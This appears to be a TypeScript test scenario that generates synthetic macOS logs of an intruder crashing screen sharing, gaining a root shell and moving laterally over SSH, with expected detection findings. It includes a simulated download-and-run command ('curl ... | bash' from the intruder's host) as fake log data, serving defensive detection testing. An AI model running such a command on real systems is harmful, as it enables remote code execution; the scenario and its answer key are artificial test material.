import { Sensor } from '../acts/network.ts';
import type { Item, UnifiedEntry } from '../item.ts';
import { at, type Story } from '../story.ts';

const AGENT = '/System/Library/CoreServices/RemoteManagement/ScreensharingAgent.bundle/Contents/MacOS/screensharingd';

/** Screen sharing crashes three times under failing connections, launchd restarts it, a shell under it, then SSH inwards. */
export const macosScreensharing: Story = {
  id: 'macos',
  title: 'Screen sharing on a Mac, exploited from a neighbour',
  truth: {
    findings: [{ rule: 't1210-macos', host: 'mac-anna', stages: ['A2', 'B1', 'C1', 'D1'], leastLevel: 'high' }],
    nothingAbove: 'low',
  },
  tell(folder, random) {
    const ip = '10.14.3.17';
    const sensor = new Sensor(`${folder}/zeek/conn.log`, random);
    const entry = (time: number, over: Partial<UnifiedEntry> & Pick<UnifiedEntry, 'text'>): Item => ({
      kind: 'unified',
      at: time,
      file: `${folder}/log-show.ndjson`,
      process: '/sbin/launchd',
      pid: 1,
      subsystem: '',
      category: '',
      messageType: 'Default',
      ...over,
    });
    const ran = (
      time: number,
      pid: number,
      parent: number,
      path: string,
      cmdline: string,
      parentName: string,
    ): Item => ({
      kind: 'osquery',
      at: time,
      file: `${folder}/osqueryd.results.log`,
      row: {
        name: 'process_events',
        host: 'mac-anna',
        counter: 41,
        columns: {
          pid: String(pid),
          parent: String(parent),
          path,
          cmdline,
          parent_name: parentName,
          uid: '0',
          euid: '0',
          time: String(Math.floor(time / 1e6)),
        },
      },
    });
    const items: Item[] = [
      { kind: 'raw', at: 0, file: `${folder}/hostname.txt`, text: 'mac-anna' },
      {
        kind: 'raw',
        at: 0,
        file: `${folder}/ifconfig.txt`,
        text: `en0: flags=8863<UP> mtu 1500\n\tinet ${ip} netmask 0xffffff00 broadcast 10.14.3.255`,
      },
    ];
    for (const day of ['-1 ', '']) {
      const [from, to] = [at(`${day}08:00:00`), at(`${day}18:00:00`)];
      items.push(
        ...sensor.traffic(40, from, to, () => ({ from: ip, to: '10.14.0.2', port: 53, protocol: 'udp' as const })),
        ...sensor.traffic(40, from, to, () => ({ from: ip, to: '198.51.100.80', port: 443 })),
        ...sensor.traffic(12, from, to, () => ({ from: '10.14.0.9', to: ip, port: 5900, seconds: 120 })),
      );
      for (let i = 0; i < 15; i++) {
        const time = random.between(from, to);
        items.push(
          entry(time, {
            subsystem: 'com.apple.xpc.launchd',
            text: `[system/com.apple.mdworker.shared [${900 + i}]:] exited due to SIGKILL | sent by mds[112]`,
          }),
        );
        items.push(ran(time, 700 + i, 640, '/usr/bin/git', 'git status', 'zsh'));
      }
    }
    const intruder = '10.14.9.50';
    items.push(...sensor.burst(24, 15, { at: at('14:30:00'), from: intruder, to: ip, port: 5900 }));
    for (const [i, clock] of ['14:30:04.2', '14:30:16.8', '14:30:29.5'].entries()) {
      const pid = 4100 + i * 12;
      items.push(
        entry(at(clock) - 900_000, {
          process: AGENT,
          pid,
          subsystem: 'com.apple.screensharing',
          messageType: 'Error',
          text: `Authentication: FAILED :: User Name: N/A :: Viewer Address: ${intruder} :: Type: N/A`,
        }),
        entry(at(clock), {
          subsystem: 'com.apple.xpc.launchd',
          messageType: 'Error',
          text: `[system/com.apple.screensharing [${pid}]:] exited due to SIGSEGV | sent by exc handler[${pid}], ran for 3912ms`,
        }),
        entry(at(clock) + 300_000, {
          subsystem: 'com.apple.xpc.launchd',
          text: `[system/com.apple.screensharing:] service has crashed ${i + 1} times in a row`,
        }),
        entry(at(clock) + 10.2e6, {
          subsystem: 'com.apple.xpc.launchd',
          text: `[system/com.apple.screensharing:] Successfully spawned screensharingd[${pid + 12}] because ipc (socket)`,
        }),
      );
    }
    items.push(
      sensor.flow({
        at: at('14:30:44'),
        from: intruder,
        to: ip,
        port: 5900,
        seconds: 20,
        sent: 40_000,
        received: 3000,
      }),
      ran(
        at('14:30:52'),
        4201,
        4136,
        '/bin/bash',
        'bash -c "curl -s http://10.14.9.50:8000/a | bash"',
        'screensharingd',
      ),
      ran(at('14:30:52.5'), 4202, 4201, '/usr/bin/curl', 'curl -s http://10.14.9.50:8000/a', 'bash'),
    );
    const fromPort = random.between(50_000, 60_000);
    items.push({
      kind: 'osquery',
      at: at('14:33:10'),
      file: `${folder}/osqueryd.results.log`,
      row: {
        name: 'socket_events',
        host: 'mac-anna',
        counter: 41,
        columns: {
          action: 'connect',
          pid: '4201',
          path: '/bin/bash',
          family: '2',
          protocol: '6',
          local_address: ip,
          local_port: String(fromPort),
          remote_address: '10.14.3.30',
          remote_port: '22',
          success: '1',
          time: String(Math.floor(at('14:33:10') / 1e6)),
        },
      },
    });
    items.push(sensor.flow({ at: at('14:33:10'), from: ip, fromPort, to: '10.14.3.30', port: 22, seconds: 60 }));
    return items;
  },
};
